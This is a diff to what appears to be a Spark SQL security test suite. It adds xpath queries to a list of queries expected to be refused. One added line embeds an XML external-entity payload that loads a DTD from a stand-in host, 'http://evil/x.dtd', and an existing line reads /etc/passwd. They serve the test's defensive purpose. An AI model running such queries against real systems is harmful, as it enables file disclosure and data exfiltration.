@@ -225,6 +225,10 @@ def test_queries_may_be_asked(spark: SparkSession, text: str) -> None:
         "SELECT `system`.`session`.`f`(1)",
         "SHOW COLUMNS IN a IN text",
         "DESCRIBE text.`/etc/passwd` value",
+        """SELECT xpath_string('<!DOCTYPE a SYSTEM "http://evil/x.dtd"><a/>', 'a')""",
+        "SELECT xpath(v, 'a/b') FROM a",
+        "SELECT system.builtin.xpath_int(v, 'a/b') FROM a",
+        "SELECT transform(array('<a/>'), x -> xpath_boolean(x, 'a'))",
     ],
 )
 def test_what_reaches_further_is_refused(spark: SparkSession, text: str) -> None:
